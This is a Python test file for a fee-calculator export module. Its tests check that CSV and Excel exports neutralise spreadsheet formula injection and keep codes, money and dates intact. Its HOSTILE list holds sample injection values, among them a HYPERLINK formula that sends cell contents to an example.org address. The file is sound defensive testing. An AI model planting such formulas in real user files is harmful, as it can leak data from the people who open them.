"""Tables as files: texts stay texts, money and codes keep their figures, and no text of a user's file starts a formula."""

import datetime as dt
import io
import re
import shutil
import subprocess
import tempfile
import zipfile
from decimal import Decimal

import polars as pl
import pytest

from feecalc import claims, export
from feecalc.errors import InputError
from feecalc.export import Sheet

openpyxl = pytest.importorskip("openpyxl", reason="openpyxl is not installed")

SOFFICE = shutil.which("soffice")
# The ways in which a cell of a csv file starts a formula in Excel or LibreOffice.
HOSTILE = [
    '=HYPERLINK("http://example.org?"&A1,"open")',
    "=1+1",
    "+1+1",
    "-1+1",
    "-A1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
]
HARMLESS = ["-12.50", "+3", "-$1,234.50", "-.5", "-5%", "-", "+", "97110", "00100", "0012", "G0283", "25 59", "'=1", "a=b", ""]


def opened_book(content):
    return openpyxl.load_workbook(io.BytesIO(content))


def table_of(page, head=1):
    return [[cell.value for cell in row] for row in page.iter_rows(min_row=head)]


# Csv ---------------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE, ids=repr)
def test_a_text_that_starts_a_formula_gets_an_apostrophe(text):
    assert export.inert(pl.DataFrame({"note": [text]}))["note"].to_list() == [f"'{text}"]


@pytest.mark.parametrize("text", HARMLESS, ids=repr)
def test_numbers_codes_and_ordinary_texts_stay(text):
    assert export.inert(pl.DataFrame({"note": [text]}))["note"].to_list() == [text]


def test_columns_that_are_no_text_stay_with_their_types():
    frame = pl.DataFrame(
        {
            "money": [Decimal("-12.50"), None],
            "units": [-3, 0],
            "share": [-0.5, 1.0],
            "day": [dt.date(2025, 10, 1), None],
            "word": pl.Series(["priced", None], dtype=pl.Enum(["priced", "zero"])),
        }
    )
    assert export.inert(frame).equals(frame)
    assert export.inert(frame).schema == frame.schema


def test_csv_of_a_report_is_inert_in_cells_and_headings():
    got = export.csv_bytes(pl.DataFrame({"=1+1": ["=2+2", None, ""], "money": [Decimal("-1.50")] * 3})).decode()
    assert got == "'=1+1,money\n'=2+2,-1.50\n,-1.50\n,-1.50\n"


def test_csv_may_be_faithful():
    got = export.csv_bytes(pl.DataFrame({"=1+1": ["=2+2", "-A1"]}), faithful=True).decode()
    assert got == "=1+1\n=2+2\n-A1\n"


def test_write_makes_csv_inert_and_parquet_as_it_was(tmp_path):
    frame = pl.DataFrame({"note": ["=1+1"]})
    export.write(frame, tmp_path / "a.csv")
    export.write(frame, tmp_path / "a.parquet")
    assert (tmp_path / "a.csv").read_text(encoding="utf-8") == "note\n'=1+1\n"
    assert pl.read_parquet(tmp_path / "a.parquet").equals(frame)


def test_a_repriced_file_gives_the_users_values_back_and_its_rejects_are_inert(opened, tmp_path):
    """The repriced file is data: every row and column as it came. The list of rejects is a report, for people to open."""
    source, target = tmp_path / "claims.csv", tmp_path / "priced.csv"
    source.write_text(
        "claim_id,service_date,hcpcs,units,locality,note\nA,2025-10-15,99213,1,10112-00,=1+1\nB,2025-10-15,99213,=2+2,10112-00,-A1\n",
        encoding="utf-8",
    )
    summary = claims.reprice(source, target, opened)
    read = pl.read_csv(target, infer_schema=False)
    assert read["note"].to_list() == ["=1+1", "-A1"]
    assert read["units"].to_list() == ["1", "=2+2"]
    assert summary.rejects is not None
    assert "'=2+2" in pl.read_csv(summary.rejects, infer_schema=False)["value"].to_list()


@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is not installed")
def test_libreoffice_finds_no_formula_in_a_csv(tmp_path):
    """It does find them where nothing is done about them, so the check can fail."""
    frame = pl.DataFrame({"code": ["00100"] * len(HOSTILE), "note": HOSTILE, "money": [Decimal("-1.50")] * len(HOSTILE)})
    found = {}
    for name, faithful in (("bare", True), ("safe", False)):
        source = tmp_path / f"{name}.csv"
        source.write_bytes(export.csv_bytes(frame, faithful=faithful))
        command = [SOFFICE, "--headless", f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}"]
        # Comma, double quote, UTF-8, from row 1; the last two: texts are found by themselves, and formulas are worked out.
        rules = "--infilter=Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1,true"
        done = subprocess.run(
            [*command, rules, "--convert-to", "xlsx", "--outdir", str(tmp_path / "out"), str(source)],
            capture_output=True,
            text=True,
            timeout=240,
            check=False,
        )
        target = tmp_path / "out" / f"{name}.xlsx"
        assert target.is_file(), done.stdout + done.stderr
        book = openpyxl.load_workbook(target)
        found[name] = [cell.value for page in book for row in page for cell in row if cell.data_type == "f"]
    assert len(found["bare"]) >= 2
    assert found["safe"] == []


# Workbooks ---------------------------------------------------------------------------------------------------------------


def test_no_text_becomes_a_formula_in_a_workbook():
    frame = pl.DataFrame({"=1+1": HOSTILE, "code": ["00100"] * len(HOSTILE)})
    content = export.xlsx_bytes(frame, [("=1+1", "@SUM(1)")])
    book = opened_book(content)
    assert {cell.data_type for page in book for row in page for cell in row} == {"s"}
    told = [str(row[0]).replace("_x000D_", "\r") for row in table_of(book["Table"], 2)]
    assert told == HOSTILE
    assert table_of(book["Sources"]) == [["Item", "Value"], ["=1+1", "@SUM(1)"]]
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        pages = "".join(archive.read(name).decode() for name in archive.namelist() if "worksheets/sheet" in name)
        assert "<f>" not in pages
        assert "hyperlink" not in pages
        # As if typed with an apostrophe, so that it stays a text when someone edits the cell.
        assert 'quotePrefix="1"' in archive.read("xl/styles.xml").decode()


def test_a_workbook_of_several_sheets(tmp_path):
    money = pl.DataFrame({"hcpcs": ["00100", "97110"], "fee": [Decimal("-28.79"), None], "units": [3, 4]})
    factors = pl.DataFrame({"factor": [Decimal("32.3465")], "gpci": [Decimal("0.869")], "day": [dt.date(2025, 10, 1)]})
    sheets = [
        Sheet("Codes", money, title="What the codes pay", notes=("In Alabama.", "=not a formula")),
        Sheet("Factors", factors),
        Sheet("Nothing", money.clear()),
    ]
    target = tmp_path / "book.xlsx"
    export.write_book(sheets, target, [("Release", "2025D")])
    book = openpyxl.load_workbook(target)
    assert book.sheetnames == ["Codes", "Factors", "Nothing", "Sources"]
    codes = book["Codes"]
    assert table_of(codes) == [
        ["What the codes pay", None, None],
        ["In Alabama.", None, None],
        ["=not a formula", None, None],
        [None, None, None],
        ["hcpcs", "fee", "units"],
        ["00100", -28.79, 3],
        ["97110", None, 4],
    ]
    assert [cell.data_type for cell in codes["A"]][-2:] == ["s", "s"]
    assert (codes.freeze_panes, codes["B6"].number_format, codes["A5"].font.bold) == ("A6", "#,##0.00", True)
    assert codes.print_title_rows == "$5:$5"
    assert codes.column_dimensions["A"].width < 15  # the title does not widen the column of codes
    assert codes.auto_filter.ref == "A5:C7"
    assert [book["Factors"][place].number_format for place in ("A2", "B2", "C2")] == ["0.0000", "0.000", "yyyy-mm-dd"]
    assert [book["Factors"][place].value for place in ("A2", "C2")] == [32.3465, dt.datetime(2025, 10, 1)]
    assert table_of(book["Nothing"]) == [["hcpcs", "fee", "units"]]
    assert table_of(book["Sources"]) == [["Item", "Value"], ["Release", "2025D"]]
    assert table_of(opened_book(export.book_bytes(sheets))["Codes"]) == table_of(codes)
    with zipfile.ZipFile(target) as archive:
        assert 'numberStoredAsText="1"' in archive.read("xl/worksheets/sheet1.xml").decode()
        assert 'fitToHeight="0"' in archive.read("xl/worksheets/sheet1.xml").decode()


def test_a_workbook_for_a_download_is_put_together_in_memory(monkeypatch, tmp_path):
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "missing"))
    content = export.book_bytes([Sheet("Lines", pl.DataFrame({"patient": ["DOE, JANE"]}))], [("Source", "x")])
    assert openpyxl.load_workbook(io.BytesIO(content))["Lines"]["A2"].value == "DOE, JANE"


def test_names_of_sheets_are_made_to_fit():
    names = export.sheet_names(["A/B: what?", "a b  what", "x" * 40, "x" * 40, "", "'quoted'", "History", "Sheet"])
    assert names == ["A B  what", "a b  what 2", "x" * 31, "x" * 29 + " 2", "Sheet", "quoted", "History 2", "Sheet 2"]
    frame = pl.DataFrame({"a": [1]})
    book = opened_book(export.book_bytes([Sheet(name, frame) for name in ("[one]", "one", "Sources")], [("a", "b")]))
    assert book.sheetnames == ["one", "one 2", "Sources", "Sources 2"]


def test_columns_whose_names_differ_in_capitals_alone_are_all_written():
    frame = pl.DataFrame({"Note": ["a"], "note": ["b"], "NOTE": ["c"], "": ["d"]})
    assert table_of(opened_book(export.xlsx_bytes(frame))["Table"])[1] == ["a", "b", "c", "d"]


def test_numbers_that_a_workbook_would_round_are_texts():
    frame = pl.DataFrame(
        {
            "claim": [12345678901234567, 1],
            "short": [999_999_999_999_999, -1],
            "big": pl.Series([Decimal("12345678901234.56"), Decimal("1.00")], dtype=pl.Decimal(20, 2)),
            "float": [1.5, float("inf")],
            "nan": [float("nan"), None],
            "flag": [True, False],
            "at": [dt.datetime(2025, 10, 1, 8, 30), None],
            "early": [dt.date(1850, 1, 1), None],
            "list": [[1, 2], None],
        }
    )
    rows = table_of(opened_book(export.xlsx_bytes(frame))["Table"])
    assert rows[1][0] == "12345678901234567"
    assert rows[1][1:4] == [999_999_999_999_999, "12345678901234.56", 1.5]
    assert rows[1][4:] == ["nan", True, dt.datetime(2025, 10, 1, 8, 30), "1850-01-01", "[1, 2]"]
    assert rows[2] == ["1", -1, "1.00", "inf", None, False, None, None, None]


def test_what_does_not_fit_a_worksheet_is_refused(tmp_path, monkeypatch):
    with pytest.raises(InputError, match=r"Row 2 of column note .* 32,767 characters"):
        export.xlsx_bytes(pl.DataFrame({"note": ["a", "x" * 32_768]}))
    with pytest.raises(InputError, match="at least one table"):
        export.book_bytes([])
    with pytest.raises(InputError, match=r"must end in \.xlsx"):
        export.write_book([Sheet("a", pl.DataFrame({"a": [1]}))], tmp_path / "a.csv")
    with pytest.raises(InputError, match="is not a folder"):
        export.write_book([Sheet("a", pl.DataFrame({"a": [1]}))], tmp_path / "none" / "a.xlsx")
    monkeypatch.setattr(export, "XLSX_ROWS", 4)
    three = pl.DataFrame({"a": [1, 2, 3]})
    export.write_book([Sheet("a", three)], tmp_path / "fits.xlsx")
    with pytest.raises(InputError, match="3 rows do not fit a worksheet of 2"):
        export.write_book([Sheet("a", three, title="Two rows above")], tmp_path / "a.xlsx")
    monkeypatch.setattr(export, "XLSX_COLUMNS", 1)
    with pytest.raises(InputError, match="2 columns"):
        export.xlsx_bytes(pl.DataFrame({"a": [1], "b": [2]}))
    assert [path.name for path in tmp_path.iterdir()] == ["fits.xlsx"]


def test_a_failed_workbook_leaves_the_older_one(tmp_path):
    target = tmp_path / "a.xlsx"
    export.write_book([Sheet("a", pl.DataFrame({"a": ["old"]}))], target)
    with pytest.raises(InputError):
        export.write_book([Sheet("a", pl.DataFrame({"a": ["x" * 40_000]}))], target)
    assert table_of(openpyxl.load_workbook(target)["a"]) == [["a"], ["old"]]
    assert [path.name for path in tmp_path.iterdir()] == ["a.xlsx"]


def test_the_rules_of_a_csv_are_those_of_its_documentation():
    """Every sign that the pattern knows is tried above."""
    assert {text[0] for text in HOSTILE} == set(export.FORMULA_STARTS)
    assert all(re.match(export._FORMULA_LIKE, text) for text in HOSTILE)
